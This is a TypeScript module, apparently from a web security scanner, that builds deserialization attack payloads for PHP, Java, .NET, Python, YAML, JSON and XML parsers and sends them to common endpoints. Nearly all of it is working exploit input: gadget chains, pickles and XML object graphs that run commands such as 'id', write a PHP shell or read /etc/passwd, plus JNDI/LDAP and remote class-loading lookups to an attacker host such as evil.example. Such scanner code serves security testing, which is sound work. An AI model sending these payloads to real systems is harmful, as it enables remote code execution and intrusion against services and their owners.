import { gzipSync } from 'node:zlib';
import { byteString, jsonMessage, postMessage } from '../message.ts';
import { attackerHost, type TechniqueFamily } from '../technique.ts';

/** The beginning of a stream of Java objects: a class descriptor with its name and one member. */
function javaObject(className: string, member: string): Buffer {
  const text = (value: string): Buffer =>
    Buffer.concat([Buffer.from([value.length >> 8, value.length & 0xff]), Buffer.from(value)]);
  return Buffer.concat([
    Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72]),
    text(className),
    Buffer.from([5, 7, 0xda, 0xc1, 0xc3, 0x16, 0x60, 0xd1, 3, 0, 2, 0x4c]),
    text(member),
    Buffer.from([0x74]),
    text('Ljava/lang/Object;'),
    Buffer.from([0x78, 0x70]),
  ]);
}

/** The header of the binary format of .NET, a library and a class. */
const netObject = (className: string): Buffer =>
  Buffer.concat([
    Buffer.from([0, 1, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 1, 0, 0, 0, 0, 0, 0, 0, 0x0c, 2, 0, 0, 0]),
    Buffer.from([0x49]),
    Buffer.from('System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089'),
    Buffer.from([5, 1, 0, 0, 0, className.length]),
    Buffer.from(className),
  ]);

const gadgets = [
  ['java.util.PriorityQueue', 'comparator'],
  ['org.apache.commons.collections.functors.InvokerTransformer', 'iMethodName'],
  ['java.util.HashMap', 'loadFactor'],
  ['com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl', '_bytecodes'],
] as const;

const phpObjects = [
  'O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\0*\0socket";O:29:"Monolog\\Handler\\BufferHandler":1:{s:10:"\0*\0handler";N;}}',
  'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":1:{s:9:"\0*\0events";O:15:"Faker\\Generator":0:{}}',
  'a:1:{i:0;O:11:"TCPDF_Cache":1:{s:4:"file";s:11:"/etc/passwd";}}',
  'O:8:"Shop\\Log":2:{s:4:"path";s:9:"shell.php";s:4:"text";s:18:"<?php phpinfo();?>";}',
  'O:+4:"Evil":1:{s:3:"cmd";s:2:"id";}',
  'C:11:"ArrayObject":37:{x:i:0;a:0:{};m:a:1:{i:0;O:4:"Evil":0:{}}}',
];

const pickles = [
  "cos\nsystem\n(S'id'\ntR.",
  'cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n.',
  'c__builtin__\neval\n(S\'__import__("os").system("id")\'\ntR.',
];

export const deserializationTechniques: TechniqueFamily = {
  about: 'objects that the application builds from a value',
  places: [
    'query value',
    'form value',
    'JSON leaf',
    'cookie',
    'multipart field',
    'raw body',
    'X-Api-Version',
  ],
  fields: ['data', 'state', 'session', 'cart', 'token', 'prefs'],
  techniques: {
    'PHP objects': {
      does: 'Is a serialised object of PHP whose class does something when it is woken up or destroyed',
      needs: 'PHP with such classes',
      values: () => phpObjects,
    },
    'PHP objects in base64': {
      does: 'Is such an object in base64, as cookies have it',
      needs: 'PHP with such classes',
      unless: ['base64 value'],
      values: () => phpObjects.map((it) => Buffer.from(it, 'latin1').toString('base64')),
    },
    'Java objects': {
      does: 'Is a stream of Java objects with a class of a known gadget chain, in base64 or hexadecimal digits',
      needs: 'Java with such libraries',
      unless: ['base64 value'],
      values: () =>
        gadgets.flatMap(([name, member]) => {
          const bytes = javaObject(name, member);
          return [
            bytes.toString('base64'),
            bytes.toString('hex'),
            gzipSync(bytes).toString('base64'),
          ];
        }),
    },
    'Java objects as body': {
      does: 'Is a stream of Java objects as it is',
      needs: 'Java with such libraries',
      requests: () =>
        gadgets.map(([name, member]) =>
          postMessage(
            '/invoker/JMXInvokerServlet',
            'application/x-java-serialized-object',
            javaObject(name, member).toString('latin1'),
          ),
        ),
    },
    '.NET objects': {
      does: 'Is an object of .NET that starts a process when it is read',
      needs: '.NET with such readers',
      unless: ['base64 value'],
      values: () => [
        netObject('System.Windows.Data.ObjectDataProvider').toString('base64'),
        netObject('System.Collections.Generic.SortedSet`1').toString('base64'),
        '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}',
        '{"__type":"System.IO.FileInfo, mscorlib","fileName":"c:\\\\q"}',
        '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:d="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider ObjectType="{x:Type d:Process}" MethodName="Start"/></ResourceDictionary>',
      ],
    },
    'Python objects': {
      does: 'Is a pickle that calls a function',
      needs: 'Python',
      values: () => [
        ...pickles,
        Buffer.from(pickles[0] as string).toString('base64'),
        Buffer.from(
          '\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.',
          'latin1',
        ).toString('base64'),
      ],
      unless: ['base64 value'],
    },
    YAML: {
      does: 'Is YAML whose tags build objects and call functions',
      needs: 'PyYAML, SnakeYAML, Psych',
      values: (random) => [
        '!!python/object/apply:os.system ["id"]',
        `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://${attackerHost(random)}/"]]]]`,
        '--- !ruby/object:Gem::Installer\ni: x',
        'a: !!python/object/new:subprocess.Popen [["id"]]',
        '!ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\nx: 1',
        '!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://evil.example/a", autoCommit: true}',
      ],
    },
    'types in JSON': {
      does: 'Names in JSON the class of the object that is to be built',
      needs: 'fastjson, Jackson, JSON.NET, node-serialize',
      requests: (random) => {
        const host = attackerHost(random);
        return [
          jsonMessage('/api/items', {
            '@type': 'com.sun.rowset.JdbcRowSetImpl',
            dataSourceName: `ldap://${host}/a`,
            autoCommit: true,
          }),
          jsonMessage('/api/items', {
            item: { '@type': 'java.lang.AutoCloseable', '@type2': 'x' },
          }),
          jsonMessage('/api/items', {
            item: [
              'org.springframework.context.support.ClassPathXmlApplicationContext',
              `http://${host}/a.xml`,
            ],
          }),
          jsonMessage('/api/items', [
            'ch.qos.logback.core.db.DriverManagerConnectionSource',
            { url: 'jdbc:h2:mem:' },
          ]),
          jsonMessage('/api/items', {
            $type: 'System.Windows.Data.ObjectDataProvider, PresentationFramework',
            MethodName: 'Start',
          }),
          jsonMessage('/api/items', {
            name: "_$$ND_FUNC$$_function (){require('child_process').exec('id')}()",
          }),
          jsonMessage('/api/items', {
            'py/object': 'subprocess.Popen',
            'py/reduce': [{ 'py/type': 'os.system' }, { 'py/tuple': ['id'] }],
          }),
        ];
      },
    },
    'objects in XML': {
      does: 'Describes in XML a graph of objects that runs a command',
      needs: 'XStream, XMLDecoder (WebLogic), XmlSerializer',
      requests: () => [
        postMessage(
          '/struts2-rest/orders',
          'application/xml',
          '<map><entry><jdk.nashorn.internal.objects.NativeString><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"/></jdk.nashorn.internal.objects.NativeString></entry></map>',
        ),
        postMessage(
          '/api/items',
          'application/xml',
          "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class='java.beans.EventHandler'><target class='java.lang.ProcessBuilder'><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>",
        ),
        postMessage(
          '/api/items',
          'application/xml',
          "<java.util.PriorityQueue serialization='custom'><unserializable-parents/></java.util.PriorityQueue>",
        ),
        postMessage(
          '/wls-wsat/CoordinatorPortType',
          'text/xml',
          '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java></work:WorkContext></soapenv:Header></soapenv:Envelope>',
        ),
        postMessage(
          '/api/items',
          'application/xml',
          byteString(
            '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>id</string></void></object></java>',
          ),
        ),
      ],
    },
    'view state': {
      does: 'Is a forged view state of ASP.NET or JSF with an object of a gadget chain',
      needs: 'ASP.NET, JSF',
      requests: () => [
        postMessage(
          '/default.aspx',
          'application/x-www-form-urlencoded',
          `__VIEWSTATE=${encodeURIComponent(Buffer.concat([Buffer.from([0xff, 1, 0x32, 0x40]), netObject('System.Collections.Generic.SortedSet`1')]).toString('base64'))}`,
        ),
        postMessage(
          '/login.xhtml',
          'application/x-www-form-urlencoded',
          `javax.faces.ViewState=${encodeURIComponent(javaObject('java.util.PriorityQueue', 'comparator').toString('base64'))}`,
        ),
      ],
    },
  },
};
